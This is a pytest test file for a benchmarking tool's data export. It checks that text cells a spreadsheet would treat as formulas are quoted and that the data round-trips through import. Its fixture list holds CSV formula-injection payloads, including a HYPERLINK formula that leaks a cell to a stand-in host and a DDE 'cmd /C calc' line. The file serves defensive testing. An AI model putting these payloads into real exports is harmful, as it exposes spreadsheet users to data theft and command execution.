"""Exported text cells a spreadsheet would run as formulas are quoted (numbers never are),
the raw option writes them as they are, and both round-trip exactly through import."""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from pathlib import Path

import pytest

from meaningbench.cli import main
from meaningbench.core.cells import notice_path
from meaningbench.datasets.exporters import export_study
from meaningbench.datasets.importer import import_file
from meaningbench.db.models import MetricRun, Score
from meaningbench.db.study import Study, create_study
from tests.datasets.helpers import rows

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
    "+1",
    "-x",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rCR first",
    "=1+2",
    "-3.5",
    "+cmd|' /C calc'!A0",
    "'=already quoted by someone",
    "''@two quotes",
    "'a quote, harmless",
    "plain text",
]
N = 420
# A cell a spreadsheet treats as a formula: it starts like one and is not a plain number.
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)


def _build(tmp_path: Path) -> Study:
    study = create_study(tmp_path / "a.mbstudy")
    k = len(DANGEROUS)
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["source", "output", "system", "annotator", "dimension", "rating"])
    for i in range(N):
        w.writerow(
            [
                f"{DANGEROUS[i % k]} s{i}",
                DANGEROUS[(i + 1) % k] if i < k else f"{DANGEROUS[(i + 1) % k]} o{i}",
                f"{DANGEROUS[(i + 2) % k][:12]}",
                f"{DANGEROUS[(i + 3) % k][:10]}{i % 3}",
                "meaning",
                i % 101,
            ]
        )
    (tmp_path / "in.csv").write_text(buf.getvalue(), encoding="utf-8")
    import_file(study, tmp_path / "in.csv", dataset="=evil()")
    ids = [r[0] for r in rows(study, "SELECT id FROM item ORDER BY id")]
    with study.session() as s:
        run = MetricRun(metric="=ter", config={}, config_hash="h", label="=ter", status="done")
        s.add(run)
        s.flush()
        s.add_all(
            Score(run_id=run.id, item_id=i, value=-3.5 - n, raw=1.0) for n, i in enumerate(ids)
        )
    return study


def _study_content(study: Study) -> tuple[Counter, Counter]:
    items = Counter(
        rows(
            study,
            "SELECT d.name, i.source, i.output, i.system, i.refs, i.kind FROM item i "
            "JOIN dataset d ON d.id = i.dataset_id",
        )
    )
    ratings = Counter(
        rows(
            study,
            "SELECT i.source, i.output, i.system, a.name, a.kind, dm.name, r.value FROM rating r "
            "JOIN item i ON i.id = r.item_id JOIN annotator a ON a.id = r.annotator_id "
            "JOIN dimension dm ON dm.id = r.dimension_id WHERE r.state = 'current'",
        )
    )
    return items, ratings


def _table(path: Path) -> list[list[str]]:
    delimiter = "\t" if path.suffix == ".tsv" else ","
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


@pytest.fixture
def study(tmp_path: Path):
    s = _build(tmp_path)
    yield s
    s.close()


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_items_export_quotes_formula_text_and_never_numbers(
    study: Study, tmp_path: Path, suffix: str
) -> None:
    raw_out = tmp_path / f"raw{suffix}"
    raw = export_study(study, raw_out, raw_cells=True)
    raw_table = _table(raw_out)
    assert raw.cells == "raw" and raw.cells_quoted == 0
    assert raw_table[0][-1] == "=ter"  # no marker column
    formulas = sum(_formula(c) for row in raw_table for c in row)
    assert formulas >= 400  # what the study holds, written as it is

    safe_out = tmp_path / f"safe{suffix}"
    safe = export_study(study, safe_out)
    table = _table(safe_out)
    assert safe.cells == "spreadsheet-safe"
    # The same columns as the raw table: no notice column; the notice is a file beside it.
    assert len(table[0]) == len(raw_table[0])
    assert safe.notice == str(notice_path(safe_out)) and notice_path(safe_out).is_file()
    assert not notice_path(raw_out).exists()
    assert not [c for row in table for c in row if _formula(c)]
    # Each formula-like text cell got exactly one quote in front, nothing else changed.
    quoted = 0
    for raw_row, safe_row in zip(raw_table, table, strict=True):
        assert len(safe_row) == len(raw_row)
        for a, b in zip(raw_row, safe_row, strict=True):
            if a != b:
                assert b == "'" + a
                quoted += 1
    assert quoted == safe.cells_quoted >= 400
    # Numbers stay numbers, negative ones included; text that merely looks like one does not.
    header = table[0]
    assert header[-1] == "'=ter"  # header cells are text too
    ter = [float(r[header.index("'=ter")]) for r in table[1:]]
    assert ter == [-3.5 - n for n in range(N)]
    outputs = [r[header.index("output")] for r in table[1:]]
    assert "'-3.5" in outputs and "'+1" in outputs
    assert table[1][header.index("dataset")] == "'=evil()"


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
@pytest.mark.parametrize("raw_cells", [False, True], ids=["safe", "raw"])
def test_ratings_export_round_trips_exactly(
    study: Study, tmp_path: Path, suffix: str, raw_cells: bool
) -> None:
    out = tmp_path / f"ratings{suffix}"
    report = export_study(study, out, ratings=True, raw_cells=raw_cells)
    assert (report.cells_quoted >= 400) != raw_cells
    b = create_study(tmp_path / "b.mbstudy")
    try:
        import_file(b, out)
        assert _study_content(b) == _study_content(study)
        assert sum(_study_content(b)[1].values()) == N
    finally:
        b.close()


def test_an_unmarked_file_keeps_its_quotes(new_study: Study, tmp_path: Path) -> None:
    f = tmp_path / "other.csv"
    f.write_text("source,output\n'=not ours,'+kept\n", encoding="utf-8")
    import_file(new_study, f)
    assert rows(new_study, "SELECT source, output FROM item") == [("'=not ours", "'+kept")]


def test_jsonl_is_written_as_it_is(study: Study, tmp_path: Path) -> None:
    out = tmp_path / "r.jsonl"
    report = export_study(study, out, ratings=True)
    assert report.cells == "raw" and report.cells_quoted == 0
    first = json.loads(out.read_text(encoding="utf-8").splitlines()[0])
    assert first["source"].startswith(DANGEROUS[0])


def test_the_command_says_which_cells_it_wrote(
    study: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = str(study.path)
    study.close()
    assert main(["export", path, str(tmp_path / "o.csv")]) == 0
    done = capsys.readouterr()
    assert "text cells" not in done.out  # stdout says what was written; stderr the note
    assert "note: text cells: spreadsheet-safe:" in done.err and "--raw-cells" in done.err
    assert "o.csv.notice.txt" in done.err
    assert main(["export", path, str(tmp_path / "o.csv"), "--raw-cells", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert (report["cells"], report["cells_quoted"]) == ("raw", 0)
    assert main(["export", path, str(tmp_path / "o.tsv"), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["cells"] == "spreadsheet-safe" and report["cells_quoted"] >= 400
